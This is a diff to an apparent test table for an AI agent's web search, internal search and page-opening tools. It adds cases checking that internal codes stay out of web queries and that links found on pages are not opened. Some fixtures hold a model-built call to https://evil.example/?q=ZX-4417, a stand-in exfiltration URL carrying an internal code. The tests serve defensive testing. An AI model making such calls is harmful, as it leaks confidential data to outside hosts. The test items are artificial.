@@ -35,7 +35,7 @@ _EVERYWHERE = (
         _agent(
             f"both tools of one step, {surface.name}", surface,
             {Line.SIDE_BY_SIDE, Line.INTERNAL_SEARCH, Line.WEB_SEARCH, Line.REFERENCES_LISTED, Line.LIST_OF_MODEL_LEFT_OUT, Line.SENT_IS_SHOWN},
-            LEAVE, (_internal("parental leave"), _web("Danish law")), sent=("Danish law",), shown=("Danish law",), says=("24 weeks", "14 weeks"),
+            LEAVE, (_internal("parental leave"), _web("Danish law")), sent=("Danish law",), kinds=frozenset({"document", "url"}), shown=("Danish law",), says=("24 weeks", "14 weeks"),
         )
         for surface in (API, TERMINAL, PAGE)
     ),
@@ -67,6 +67,12 @@ _TOOLS = (
     _agent("a page that the asker names", TERMINAL, {Line.OPEN_URL}, "Why is the tidal pool of {web}/en/pool late?", (_open("{web}/en/pool"),), pages=("/en/pool",), kinds=("url",)),
     _agent("an address of the model's making", API, {Line.PAGES_ARE_DATA, Line.ERRORS_ARE_TEXT}, LEAVE, (_open("{web}/en/pool"),), says=(GENERAL,), is_general=True),
     _agent("an address of the model's making, TERMINAL", TERMINAL, {Line.PAGES_ARE_DATA}, LEAVE, (_open("https://evil.example/?q=ZX-4417"),), says=(GENERAL,), is_general=True),
+    _agent("an engine that fails", API, {Line.NEXT_PROVIDER}, LEAVE, (_web("Danish law"),), is_engine_broken=True, sent=("Danish law",), kinds=("url",), says=("24 weeks",)),
+    *(_agent(f"links of a page after an internal document, {surface.name}", surface, {Line.LINKS_OF_PAGE, Line.PAGES_ARE_DATA},
+             "Does Project Falcon use the tidal pool of {web}/odd/linked?", (_internal("Project Falcon"),), (_open("{web}/odd/linked"),),
+             (_open("{web}/en/pool", "https://evil.example/tidal-pool"),), pages=("/odd/linked", "/en/pool"), kinds=("document", "url", "url"),
+             told=("not opened: the asker did not write it",))
+      for surface in (API, TERMINAL)),
     _agent("a captcha", TERMINAL, {Line.BLOCKED_PAGES}, "What does {web}/walls/captcha-en show?", (_open("{web}/walls/captcha-en"),), pages=("/walls/captcha-en",), says=(GENERAL,), is_general=True, told=("(a captcha)",)),
     _agent("two spellings of an address", API, {Line.EQUAL_ADDRESSES}, TIDAL, (_web("tidal pool"),), sent=("tidal pool",), kinds=("url",), told=("Found 1 relevant sources.",), not_told=("A tidal pool, again",)),
     _agent("no search is needed", API, {Line.NO_SEARCH_NEEDED}, LEAVE, (_web("Hello!"),), says=(GENERAL,), is_general=True, told=("No search needed based on the query analysis.",)),
@@ -76,9 +82,9 @@ _TOOLS = (
     _agent("arguments that cannot be read", TERMINAL, {Line.ERRORS_ARE_TEXT}, LEAVE, (ToolUse("web_search", "{"),), says=(GENERAL,), is_general=True),
     _agent("a domain that is blocked", API, {Line.DOMAINS}, LEAVE, (_web("Danish law"),), rules={"blocked_domains": ["law.example"]}, sent=("Danish law",), says=(GENERAL,), is_general=True, not_told=("24 weeks",)),
     _agent("the web is switched off", TERMINAL, {Line.WEB_OFF_UNTIL_ADMIN}, LEAVE, (_internal("parental leave"),), rules={"is_on": False}, kinds=("document",), says=("14 weeks",)),
-    _agent("an internal code after a search", API, {Line.NAMES_KEPT_IN}, "What does the project use?", (_internal("Project Falcon"),), (_web("law ZX-4417"),), sent=("law",), told=("ZX-4417",)),
-    _agent("an internal code after a search, TERMINAL", TERMINAL, {Line.NAMES_KEPT_IN}, "What does the project use?", (_internal("Project Falcon"),), (_web("law ZX-4417"),), sent=("law",), shown=("kept out of it: ZX-4417",)),
-    _agent("a code that the asker wrote", API, {Line.ASKER_MAY_NAME}, "What is ZX-4417?", (_internal("ZX-4417"),), (_web("ZX-4417 law"),), sent=("ZX-4417 law",)),
+    _agent("an internal code after a search", API, {Line.NAMES_KEPT_IN}, "What does the project use?", (_internal("Project Falcon"),), (_web("law ZX-4417"),), sent=("law",), kinds=("document",), told=("ZX-4417",)),
+    _agent("an internal code after a search, TERMINAL", TERMINAL, {Line.NAMES_KEPT_IN}, "What does the project use?", (_internal("Project Falcon"),), (_web("law ZX-4417"),), sent=("law",), kinds=("document",), shown=("kept out of it: ZX-4417",)),
+    _agent("a code that the asker wrote", API, {Line.ASKER_MAY_NAME}, "What is ZX-4417?", (_internal("ZX-4417"),), (_web("ZX-4417 law"),), sent=("ZX-4417 law",), kinds=("document",)),
     *(_agent(f"the switch {name} is {is_on}, {surface.name}", surface, {Line.SWITCH_REFUSED}, LEAVE, switches={name: is_on}, refused=DECIDES)
       for surface in (API, TERMINAL) for name, is_on in (("web", True), ("web", False), ("knowledge", True), ("rewrite", False))),
 )  # fmt: skip
